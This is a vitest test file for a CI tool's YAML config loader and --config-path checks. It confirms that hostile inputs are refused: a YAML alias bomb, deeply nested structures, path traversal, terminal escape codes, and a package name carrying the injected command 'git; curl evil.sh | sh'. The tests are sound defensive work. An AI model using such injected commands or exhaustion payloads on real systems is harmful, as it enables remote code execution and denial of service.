/**
 * Bad config, as a new user (or a hostile file) would write it: each is refused with one line and
 * a hint, and a mistyped --config-path never falls back to defaults that run gates the real file
 * disables. How long the hostile files take is scripts/bench-config.ts's to print, not a test's.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { MAX_CONFIG_BYTES } from "../../deploy/lib/config/errors.js";
import { checkConfigPath, parseConfig } from "../../deploy/lib/config/load.js";
import type { GateReport } from "../../src/report/gate-report.js";
import { drive, type Driven } from "../helpers/drive.js";
import { gateError } from "../helpers/gate-error.js";
import { expectClear, thrown } from "./clear.js";

const keys = (n: number, extra = "") => `${Array.from({ length: n }, (_, i) => `k${i}: ${i}`).join("\n")}\n${extra}`;
const deep = (n: number, open: string, leaf: string, close: string) => `gates: ${open.repeat(n)}${leaf}${close.repeat(n)}\n`;

describe("config text", () => {
  it.each<[string, string, RegExp, RegExp?]>([
    ["a duplicate key", "version: 1\nversion: 1\n", /^shipshape\.yaml:2:1: Map keys must be unique: "version" is already set on line 1/],
    ["a duplicate nested key", "gates:\n  lint: {}\n  lint: {}\n", /^shipshape\.yaml:3:3: .*"lint"/],
    ['keys equal once read (1 and "1")', 'gates:\n  test:\n    env:\n      1: a\n      "1": b\n', /:5:7: Map keys must be unique: "1"/],
    ["a duplicate after 15,000 keys", keys(15_000, "k7: again\n"), /^shipshape\.yaml:15001:1: Map keys must be unique: "k7"/],
    ["flow sequences 5,000 deep", deep(5000, "[", "x", "]"), /^shipshape\.yaml:1:\d+: nested more than 32 levels deep$/],
    ["flow mappings 5,000 deep", deep(5000, "{a: ", "1", "}"), /nested more than 32 levels deep$/],
    ["block sequences 40 deep", `gates:\n${"- ".repeat(40)}x\n`, /nested more than 32 levels deep$/],
    [
      "block mappings 40 deep",
      `gates:\n${Array.from({ length: 40 }, (_, i) => `${" ".repeat(i + 1)}k${i}:`).join("\n")} 1\n`,
      /nested more/,
    ],
    [
      "a file over 256 KiB",
      `# ${"x".repeat(MAX_CONFIG_BYTES)}\n`,
      /^shipshape\.yaml is 257 KiB; a config may be at most 256 KiB$/,
      /--config-path/,
    ],
    ["two YAML documents", "version: 1\n---\nversion: 1\n", /one YAML document/],
    [
      "an alias bomb",
      `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${"*a, ".repeat(9)}*a]\nc: [${"*b, ".repeat(9)}*b]\n`,
      /resource exhaustion|[Aa]lias/,
    ],
    ["a tab for indentation", "gates:\n\tlint: {}\n", /^shipshape\.yaml:2:1: Tabs are not allowed as indentation$/, /indent with spaces/],
    ["a misspelt section", "gatse:\n  lint: {}\n", /^shipshape\.yaml is invalid: gatse: unknown key; did you mean "gates"\?$/],
    [
      "a system package that is shell syntax",
      "node:\n  systemPackages: ['git; curl evil.sh | sh']\n",
      /node\.systemPackages\[0\]: expected an OS package name/,
    ],
    ["a system package that is an option", "node:\n  systemPackages: ['--allow-untrusted']\n", /node\.systemPackages\[0\]/],
  ])("%s", (_name, text, cause, hint) => {
    // How long these take is measured by scripts/bench-config.ts, not asserted here.
    expectClear(
      thrown(() => parseConfig(text)),
      cause,
      hint,
    );
  });

  it("still reads a large valid file (a positive control for the caps)", () => {
    const env = Array.from({ length: 8000 }, (_, i) => `      K${i}: "${i}"`).join("\n");
    expect(parseConfig(`gates:\n  test:\n    env:\n${env}\n`).config.gates.test.env.K7999).toBe("7999");
  });
});

describe("--config-path", () => {
  it.each<[string, RegExp]>([
    ["", /^--config-path is empty$/],
    ["  ", /^--config-path is empty$/],
    ["../shipshape.yaml", /^--config-path "\.\.\/shipshape\.yaml" points outside the source directory$/],
    ["config/../../x.yaml", /points outside the source directory$/],
    ["/etc/shipshape.yaml", /^--config-path "\/etc\/shipshape\.yaml" is absolute/],
    ["C:\\ci\\shipshape.yaml", /is absolute/],
    ["config/", /is a directory, not a file$/],
    ["ship\u001b[2Jshape.yaml", /^--config-path "ship\\x1b\[2Jshape\.yaml" contains control characters$/],
  ])("refuses %j before reading anything", (path, cause) => {
    expectClear(
      thrown(() => checkConfigPath(path)),
      cause,
      /relative to the source directory/,
    );
  });
});

describe("--config-path through a gate: an ERROR, and no gate runs on defaults", () => {
  let d: Driven | undefined;
  afterEach(() => d?.engine.uninstall());

  async function lintWith(configPath: string, setup: (root: string) => void = () => {}) {
    d = await drive();
    setup(d.root);
    const report = (await d.call<GateReport>("lint", {}, { configPath })).json;
    return { report, commands: d.engine.commands };
  }
  /** A gate that cannot judge fails its call (never cached): the row and hint it failed with. */
  async function lintErrorWith(configPath: string, setup: (root: string) => void = () => {}) {
    d = await drive();
    setup(d.root);
    const report = await gateError(d.call<GateReport>("lint", {}, { configPath }));
    return { report, commands: d.engine.commands };
  }

  it.each<[string, string, (root: string) => void, RegExp]>([
    [
      "a mistyped path next to a file that disables the gate",
      "ci/shipshap.yaml",
      (root) => {
        mkdirSync(join(root, "ci"));
        writeFileSync(join(root, "ci/shipshape.yaml"), "gates:\n  lint:\n    enabled: false\n");
      },
      /^config file "ci\/shipshap\.yaml" does not exist in the source directory$/,
    ],
    ["a path outside the source", "../shipshape.yaml", () => {}, /points outside the source directory/],
    ["a directory", "src", () => {}, /^--config-path "src" is a directory, not a file$/],
    [
      "a 300 KiB file",
      "big.yaml",
      (root) => writeFileSync(join(root, "big.yaml"), `# ${"x".repeat(300 * 1024)}\n`),
      /^big\.yaml is 301 KiB/,
    ],
  ])("%s", async (_name, path, setup, cause) => {
    const { report, commands } = await lintErrorWith(path, setup);
    expect(report.status).toBe("ERROR");
    expectClear(report, cause);
    expect(commands).toEqual([]); // nothing installed, nothing linted
  });

  it("the default file may be absent: all defaults, and the gate runs (positive control)", async () => {
    const { report, commands } = await lintWith("shipshape.yaml");
    expect(report.status).toBe("Passed");
    expect(commands.length).toBeGreaterThan(0);
  });
});
